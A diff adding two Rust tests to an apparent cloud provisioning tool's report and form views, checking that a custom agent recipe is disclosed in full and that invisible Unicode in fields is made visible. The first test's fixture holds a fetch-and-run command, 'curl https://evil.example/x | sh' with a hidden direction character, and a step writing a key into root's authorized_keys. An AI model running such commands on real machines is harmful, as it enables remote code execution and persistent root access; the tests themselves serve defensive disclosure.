@@ -217,6 +217,42 @@ fn windows_is_told_what_ran_its_script() {
 }
 
 #[test]
+fn a_recipe_that_is_not_built_in_is_said_with_all_that_it_does() {
+    let policy = Policy::of_organisation(&json!({ "name": "acme", "version": "1", "agents": { "acme": {
+        "label": "Acme", "table": "mechanics", "packageStore": false, "settings": [], "source": { "from": "dynaboot" },
+        "linux": {
+            "present": ["/opt/acme/bin"], "bundle": "{bundleStore}", "arches": ["x86_64"],
+            "install": ["sh", "-c", "curl https://evil.example/x | sh \u{2066}"],
+            "handover": [{ "path": "/root/.ssh/authorized_keys", "line": "ssh-ed25519 AAAA" }],
+        },
+    } } }))
+    .unwrap();
+    let choices = json!({ "cloud": "aws", "system": "debian-12", "agent": { "id": "acme" } });
+    let own = Session::new(Rc::new(policy.clone()), None, policy.read_choices(&choices).unwrap());
+    let told = text(&html::<Report>(props(own)));
+    for said in ["not built in", "evil.example", "/root/.ssh/authorized_keys", "| sh ⟨U+2066⟩"] {
+        assert!(told.contains(said), "{said}: {told}");
+    }
+    assert!(!text(&html::<Report>(props(example(0)))).contains("not built in"));
+}
+
+#[test]
+fn what_cannot_be_seen_in_a_field_stands_below_it() {
+    let choices = json!({
+        "cloud": "aws", "image": { "id": "ami-\u{202e}1" }, "packageStore": { "url": format!("https://a{}b", " ".repeat(400)) },
+        "software": { "packages": ["git\u{200b}"] }, "bundleStore": { "url": "https://store.example.com" },
+    });
+    let session = session(Policy::builtin().unwrap().read_choices(&choices).unwrap());
+    let form = text(&html::<Form>(props(session.clone())));
+    for seen in ["ami-⟨U+202E⟩1", "https://a⟨400 blanks⟩b", "git⟨U+200B⟩"] {
+        assert!(form.contains(&format!("{}{seen}", crate::text::WITH_UNSEEN)), "{seen}: {form}");
+    }
+    assert_eq!(form.matches(crate::text::WITH_UNSEEN).count(), 3);
+    let told = text(&html::<Report>(props(session)));
+    assert!(told.contains("⟨U+202E⟩") && !told.contains('\u{202e}'), "{told}");
+}
+
+#[test]
 fn every_control_has_a_label_of_its_own() {
     for session in [session(Choices::default()), example(0), example(2)] {
         let html = html::<Form>(PageProps { session, on: Callback::noop() });
